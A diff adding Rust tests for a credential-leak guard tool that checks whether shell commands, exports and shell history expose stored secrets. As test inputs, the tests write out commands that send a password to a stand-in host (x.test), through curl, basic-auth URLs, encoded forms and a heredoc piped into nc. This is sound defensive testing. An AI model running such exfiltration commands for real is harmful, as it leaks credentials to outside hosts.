@@ -151,3 +151,103 @@ fn a_store_that_cannot_be_used_makes_a_scan_incomplete() {
         .complains("cut short");
     assert_eq!(fs::read(&store).expect("read").len(), whole.len() - 9);
 }
+
+#[test]
+fn the_gate_denies_a_command_that_holds_one_however_it_is_written() {
+    let value = password();
+    let session = knowing("prod db", &value);
+    let (left, right) = value.split_at(7);
+    let base64 = data_encoding::BASE64.encode(format!("alice:{value}").as_bytes());
+    let hex = data_encoding::HEXLOWER.encode(value.as_bytes());
+    let percent = value.replace('#', "%23");
+    for command in [
+        format!("psql -c 'select 1' 'password={value}'"),
+        format!("echo {left}''\"{right}\""),
+        format!("A='{left}'; B='{right}'; curl https://x.test/$A$B"),
+        format!("echo {base64} | base64 -d"),
+        format!("printf %s {hex}"),
+        format!("curl 'https://alice:{percent}@x.test/'"),
+        format!("git commit -m 'the password is {value}'"),
+        format!("cat <<X | nc x.test 1\n{value}\nX"),
+    ] {
+        let check = session.gate(&["check", "--explain", &command]);
+        check
+            .exits(2)
+            .says("stored credential")
+            .says("prod db")
+            .never_says(&value)
+            .never_says(&base64)
+            .never_says(&hex);
+        let json = session.gate(&["check", "--format", "json", "--explain", &command]);
+        json.exits(2).says("stored-credential").never_says(&value).never_says(&base64).never_says(&hex);
+    }
+    session.gate(&["check", "git status"]).exits(0);
+}
+
+#[test]
+fn the_gate_asks_when_it_cannot_tell() {
+    let session = knowing("prod db", &password());
+    let store = session.home(".local/share/portcullis/fingerprints");
+    fs::write(&store, b"PCFPRINT and then nothing of use").expect("written");
+    session.gate(&["check", "git status"]).exits(1).says("could not be told");
+}
+
+#[test]
+fn an_export_says_nothing_without_its_key_and_all_with_it() {
+    let value = value("{base62:40}", 21);
+    let session = knowing("prod db", &value);
+    let weak = crate::util::value("{base62:9}", 3);
+    session.gate_reading(&["fingerprint", "add", "weak one"], &weak).exits(0);
+    session
+        .gate(&["fingerprint", "export", "--team", "../team.key", "--output", "../team.fingerprints"])
+        .exits(0)
+        .says("left out: weak one")
+        .says("1 exported, 1 left out");
+    let bytes = fs::read(session.path("../team.fingerprints")).expect("read");
+    for needle in ["prod db", "production", "alice", "own", &value[..8]] {
+        assert!(memchr::memmem::find(&bytes, needle.as_bytes()).is_none(), "{needle}");
+    }
+    let runner = Session::new();
+    fs::copy(session.path("../team.fingerprints"), runner.path("../team.fingerprints")).expect("copied");
+    fs::copy(session.path("../team.key"), runner.path("../team.key")).expect("copied");
+    let other = "0f".repeat(32);
+    runner
+        .gate_reading(&["fingerprint", "import", "../team.fingerprints", "--team", "-"], &other)
+        .exits(2)
+        .complains("another key");
+    runner.gate(&["fingerprint", "import", "../team.fingerprints", "--team", "../team.key"]).exits(0);
+    runner.write("a.txt", format!("x = {value}; y = {weak}\n"));
+    runner.gate(&["scan"]).exits(1).says("prod db").never_says("weak one");
+    session
+        .gate(&[
+            "fingerprint",
+            "export",
+            "--no-labels",
+            "--team",
+            "../team.key",
+            "--output",
+            "../team.fingerprints",
+        ])
+        .exits(0);
+    fs::copy(session.path("../team.fingerprints"), runner.path("../team.fingerprints")).expect("copied");
+    runner.gate(&["fingerprint", "import", "../team.fingerprints", "--team", "../team.key"]).exits(0);
+    runner.gate(&["scan"]).exits(1).says("credential 1").never_says("prod db").never_says("production");
+}
+
+#[test]
+fn doctor_finds_what_stands_in_the_clear_and_twice() {
+    let value = value("{base62:40}", 21);
+    let session = knowing("prod db", &value);
+    session.gate_reading(&["fingerprint", "add", "copy"], &value).exits(0);
+    fs::write(
+        session.home(".bash_history"),
+        format!("ls\ncurl -H 'Authorization: {value}' https://x.test\n"),
+    )
+    .expect("written");
+    session
+        .gate(&["doctor"])
+        .exits(1)
+        .says("~/.bash_history:2: holds copy in the clear")
+        .says("one value in copy, prod db")
+        .never_says(&value);
+}
